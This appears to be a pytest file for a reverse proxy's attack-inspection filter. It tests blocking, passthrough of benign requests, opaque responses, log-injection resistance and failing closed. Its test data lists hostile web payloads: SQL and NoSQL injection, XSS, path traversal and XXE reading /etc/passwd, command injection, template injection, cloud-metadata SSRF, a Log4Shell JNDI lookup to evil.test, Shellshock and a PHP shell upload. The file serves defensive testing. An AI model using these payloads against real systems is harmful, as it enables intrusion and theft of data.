"""Attacks that are stopped before a server sees them, over raw sockets."""

from __future__ import annotations

import gzip
import logging

import pytest

from revproxy import (
    Exchange,
    ProxyHandler,
    Response,
    Rule,
    Rules,
    Upstream,
    block,
    drop,
    redirect,
    respond,
    tarpit,
    when,
)
from revproxy.filters.inspect import Inspect
from revproxy.guard import Guard
from revproxy.handler import Handler
from revproxy.testing import FakeUpstream

from .wire import serving

BROWSER = (
    b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
    b"Accept: text/html,application/xhtml+xml,*/*;q=0.8\r\nAccept-Language: en\r\nAccept-Encoding: gzip\r\n"
)


def get(target: bytes, *lines: bytes) -> bytes:
    own = b"".join(line + b"\r\n" for line in lines)
    browser = BROWSER.partition(b"\r\n")[2] if b"User-Agent:" in own else BROWSER
    return b"GET %b HTTP/1.1\r\nHost: a.test\r\n%b%b\r\n" % (target, browser, own)


def post(body: bytes, content_type: bytes, *lines: bytes) -> bytes:
    own = b"".join(line + b"\r\n" for line in lines)
    head = b"POST / HTTP/1.1\r\nHost: a.test\r\n%b%bContent-Type: %b\r\nContent-Length: %d\r\n\r\n"
    return head % (BROWSER, own, content_type, len(body)) + body


JSON, FORM = b"application/json", b"application/x-www-form-urlencoded"
ATTACKS = [
    get(b"/?id=1'+UNION+SELECT+name,password+FROM+users--+"),
    get(b"/?q=%253Cscript%253Ealert(1)%253C/script%253E"),
    get(b"/?file=..%2f..%2f..%2fetc%2fpasswd"),
    get(b"/?host=127.0.0.1;cat+/etc/passwd"),
    get(b"/?name={{7*7}}{{config.__class__.__init__.__globals__}}"),
    get(b"/?url=http://169.254.169.254/latest/meta-data/"),
    get(b"/", b"X-Api-Version: ${${lower:j}ndi:ldap://evil.test/a}"),
    get(b"/", b"Cookie: lang=../../../../etc/passwd%00"),
    get(b"/", b"User-Agent: () { :;}; /bin/bash -c 'id'"),
    get(b"/", b"User-Agent: sqlmap/1.7"),
    post(b'{"user": {"$ne": null}, "password": {"$gt": ""}}', JSON),
    post(b'{"q": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', JSON),
    post(b"q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", FORM),
    post(b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', b"text/xml"),
    post(
        b'--x\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n<?php x();\r\n--x--\r\n',
        b"multipart/form-data; boundary=x",
    ),
    post(gzip.compress(b"q=1' OR '1'='1' -- "), FORM, b"Content-Encoding: gzip"),
    post(b'{"q": ', JSON),
]


@pytest.fixture(scope="module")
def inspect() -> Inspect:
    """By default. It takes seconds to make with hyperscan, and is started and stopped with each proxy."""
    return Inspect()


@pytest.mark.parametrize("attack", ATTACKS)
async def test_attacks(attack: bytes, inspect: Inspect, caplog: pytest.LogCaptureFixture) -> None:
    """S-60, S-62, S-63: the server sees nothing of it, the client learns nothing but 403, the log has one line."""
    async with FakeUpstream() as server:
        proxy = ProxyHandler(Upstream(server.url), filters=[inspect])
        async with serving(proxy, guard=Guard()) as site:  # which leaves bodies as they came
            answer = await site.ask(attack)
        assert (answer.status, server.requests) == (403, [])
        assert not any(word in answer.body.lower() for word in (b"inject", b"sqli", b"score", b"script"))
    lines = [record.getMessage() for record in caplog.records if record.name == "revproxy.security"]
    assert len(lines) == 1
    assert lines[0].isascii()
    assert lines[0].isprintable()
    assert 'rule "inspect": block 403 for "score ' in lines[0]


@pytest.mark.parametrize(
    "request_",
    [
        get(b"/search?q=O'Brien+%26+Sons"),
        get(b"/?redirect=https://www.example.com/a?b=c", b"Cookie: _ga=GA1.2.3.4; seen=%7B%22a%22%3A1%7D"),
        post(b'{"text": "SELECT the best; drop by the table <b>tomorrow</b>"}', JSON),
        post(b"password=P%40ss'w0rd--%3B%23", FORM),
        post(bytes(range(256)) * 100, b"image/png"),
    ],
)
async def test_ordinary_requests(request_: bytes, inspect: Inspect) -> None:
    """S-60: they pass, byte for byte."""
    async with FakeUpstream() as server:
        proxy = ProxyHandler(Upstream(server.url), filters=[inspect])
        async with serving(proxy, guard=Guard()) as site:
            answer = await site.ask(request_)
        assert answer.status == 200
        assert server.requests[0].body == request_.partition(b"\r\n\r\n")[2]


@pytest.mark.parametrize(
    ("then", "status"),
    [
        (block(404), 404),
        (block(429), 429),
        (block(451), 451),
        (respond(200, "welcome"), 200),
        (redirect("/elsewhere"), 302),
        (tarpit(0.05), 403),
        (drop(), None),
    ],
)
async def test_outcomes(then: Handler, status: int | None) -> None:
    """S-61: whatever a rule or a filter does with a request, the client does not learn which it was."""
    async with FakeUpstream() as server:
        for proxy in (
            ProxyHandler(
                Rules(Rule(when.query("q"), then, name="the secret rule"), Rule(when.anything, Upstream(server.url)))
            ),
            ProxyHandler(Upstream(server.url), filters=[Inspect(then=then, name="the secret rule", prefilter="words")]),
        ):
            async with serving(proxy) as site, site.connect() as client:
                await client.send(get(b"/?q=%3Cscript%3Ealert(1)%3C/script%3E"))
                if status is None:
                    assert await client.rest() == b""
                else:
                    answer = await client.response()
                    assert answer.status == status
                    assert b"secret" not in answer.raw_head + answer.body
        assert server.requests == []


async def test_no_line_is_forged(inspect: Inspect, caplog: pytest.LogCaptureFixture) -> None:
    """S-62, S-72: names and targets of the client's making neither end a line nor begin one."""
    caplog.set_level(logging.INFO, "revproxy.security")
    async with FakeUpstream() as server:
        proxy = ProxyHandler(Upstream(server.url), filters=[inspect])
        async with serving(proxy) as site:
            await site.ask(get(b"/?a%0d%0aINFO%22%20rule=%3Cscript%3Ealert(1)%3C/script%3E"))
    assert caplog.records
    for record in caplog.records:
        assert "\n" not in record.getMessage()
        assert "\r" not in record.getMessage()


async def test_a_filter_that_breaks() -> None:
    """An exception in a filter fails closed: 500, and nothing is forwarded."""

    async def breaks(exchange: Exchange, handler: Handler) -> Response:
        raise LookupError("a bug")

    async with FakeUpstream() as server:
        async with serving(ProxyHandler(Upstream(server.url), filters=[breaks])) as site:
            answer = await site.ask(get(b"/"))
        assert (answer.status, server.requests) == (500, [])
        assert b"bug" not in answer.body
